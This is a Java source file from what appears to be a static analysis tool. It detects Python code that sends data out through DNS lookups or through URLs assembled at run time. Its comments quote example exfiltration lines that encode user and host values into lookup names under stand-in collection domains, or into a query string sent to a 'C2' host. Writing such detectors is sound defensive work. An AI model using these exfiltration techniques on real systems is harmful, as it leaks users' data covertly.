package dev.kingsnake.spi.facts;

import dev.kingsnake.spi.python.Expr;

import java.util.Optional;
import java.util.regex.Pattern;

/**
 * Where a network call sends its data: host names and URLs assembled at run time from values (data leaving
 * in the name or the query) as against fixed or configured endpoints. Shared by the DNS and host-data
 * sending rules and by {@link Capability} (a DNS tool run as a process).
 */
public final class Destinations {

    private Destinations() {
    }

    /** A name built from values with a constant, public-looking domain suffix (not .local, .lan, cluster names). */
    public static boolean dataUnderFixedDomain(CallFacts facts, Expr host) {
        Optional<String> template = facts.text(host);
        if (template.isEmpty() || !template.get().contains("{}")) {
            return false;
        }
        String t = template.get();
        return t.matches("(?s).*\\{}[^{}]*\\.[a-zA-Z0-9-]+\\.[a-zA-Z]{2,}\\.?$")
                && !t.matches("(?s).*\\.(local|localdomain|lan|internal|home|cluster\\.local|svc)\\.?$");
    }

    /**
     * The host name a DNS-capable call looks up when it is built from values under a fixed domain: the
     * first argument of a resolver call, or the argument of a DNS tool run as a process
     * ({@code dig}, {@code nslookup}, {@code host}, {@code ping} with {@code f"{data}.x.example.invalid"}).
     */
    public static Optional<Expr> lookedUpName(CallFacts facts, CallFacts.CallFact c) {
        if (c.is(Capability.PROCESS)) {
            for (Expr a : Capability.commandParts(c.call())) {
                if (!(a instanceof Expr.Literal) && dataUnderFixedDomain(facts, a)) {
                    return Optional.of(a);
                }
            }
            return Optional.empty();
        }
        // d = user + '.' + host + '.collect.example.invalid'; socket.gethostbyname(d)
        Optional<Expr> host = c.call().arg(0).map(h -> facts.valueOf(c.scope(), h));
        if (host.isEmpty() || !(host.get() instanceof Expr.FString || host.get() instanceof Expr.BinOp
                || host.get() instanceof Expr.Call) || facts.file().constant(host.get()).isPresent()) {
            return Optional.empty();
        }
        return dataUnderFixedDomain(facts, host.get()) ? host : Optional.empty();
    }

    /** True when a request in this scope carries data in a URL assembled at run time. */
    public static boolean requestsBuiltUrl(CallFacts facts, int scope) {
        for (CallFacts.CallFact c : facts.calls()) {
            if (c.scope() == scope && c.is(Capability.FETCH) && builtAtRunTime(facts, c.call(), scope)) {
                return true;
            }
        }
        return false;
    }

    /**
     * True when the first argument is assembled right there from constant parts and other values (a bare
     * variable is not enough: resolving or fetching a name held in a variable is what every client does).
     */
    public static boolean builtAtRunTime(CallFacts facts, Expr.Call call, int scope) {
        Expr a = call.arg(0).orElse(call.keyword("url").orElse(call.keyword("host").orElse(null)));
        if (a == null) {
            return false;
        }
        if (a instanceof Expr.Name n) {
            // url = f"https://...?h={host}"; urlopen(url) — assembled in this function just before
            for (Expr v : facts.assignedIn(scope, n.id())) {
                if (assembled(facts, v)) {
                    return true;
                }
            }
            return false;
        }
        return assembled(facts, a);
    }

    private static boolean assembled(CallFacts facts, Expr a) {
        if (hostFromRunTime(facts, a)) {
            return false;
        }
        if (a instanceof Expr.FString || a instanceof Expr.BinOp) {
            return facts.file().constant(a).isEmpty();
        }
        if (a instanceof Expr.Call inner && inner.callee() instanceof Expr.Attribute at
                && ("format".equals(at.attr()) || "join".equals(at.attr()))) {
            return true;
        }
        return false;
    }

    private static final Pattern SCHEME = Pattern.compile("(?i)[a-z][a-z0-9+.-]*://");
    private static final Pattern SCHEME_THEN_FIELD = Pattern.compile("(?i)[a-z][a-z0-9+.-]*://\\{([^}!:]*)");
    private static final Pattern WHOLE_HOST = Pattern.compile(
            "(?i)[a-z][a-z0-9+.-]*://(\\{[^}]*\\}|%[sr])([:/?#]|$)");
    private static final Pattern SCHEME_THEN_PERCENT = Pattern.compile("(?i)[a-z][a-z0-9+.-]*://%[sr]");

    /**
     * True when the URL's host is filled in at run time from a value that is not a constant
     * ({@code "https://{}:{}/api/v1/pods/{}".format(os.getenv("KUBERNETES_SERVICE_HOST"), ...)}): the request goes
     * wherever the environment or the caller points it, as service discovery does. Collection servers are
     * written into the code; a host held in a constant ({@code "http://{}/?u={}".format(C2, user)}) still counts.
     */
    static boolean hostFromRunTime(CallFacts facts, Expr a) {
        Expr host = null;
        if (a instanceof Expr.FString fs) {
            StringBuilder literal = new StringBuilder();
            for (Expr part : fs.parts()) {
                if (part instanceof Expr.Literal l && l.value().isStringLike()) {
                    literal.append(l.value().asText());
                    continue;
                }
                if (SCHEME.matcher(literal).matches()) {
                    host = part;
                }
                break;
            }
        } else if (a instanceof Expr.Call c && c.callee() instanceof Expr.Attribute at && "format".equals(at.attr())) {
            java.util.regex.Matcher m = facts.text(at.value()).map(SCHEME_THEN_FIELD::matcher).orElse(null);
            if (m != null && m.lookingAt()) {
                String field = m.group(1);
                host = field.isEmpty() ? c.arg(0).orElse(null)
                        : field.chars().allMatch(Character::isDigit) ? c.arg(Integer.parseInt(field)).orElse(null)
                        : c.keyword(field).orElse(null);
            }
        } else if (a instanceof Expr.BinOp b && "+".equals(b.op())) {
            Expr.BinOp first = b;
            while (first.left() instanceof Expr.BinOp inner && "+".equals(inner.op())) {
                first = inner;
            }
            if (facts.text(first.left()).filter(t -> SCHEME.matcher(t).matches()).isPresent()) {
                host = first.right();
            }
        } else if (a instanceof Expr.BinOp b && "%".equals(b.op())
                && facts.text(b.left()).filter(t -> SCHEME_THEN_PERCENT.matcher(t).lookingAt()).isPresent()) {
            host = b.right() instanceof Expr.Sequence seq && !seq.elements().isEmpty() ? seq.elements().get(0)
                    : b.right();
        }
        // the placeholder must be the whole host: "http://" + name + ".collector.example/" names a fixed domain
        Optional<String> template = a instanceof Expr.Call c && c.callee() instanceof Expr.Attribute at
                ? facts.text(at.value()) : facts.text(a);
        return host != null && facts.file().constant(host).isEmpty()
                && template.filter(t -> WHOLE_HOST.matcher(t).lookingAt()).isPresent();
    }
}
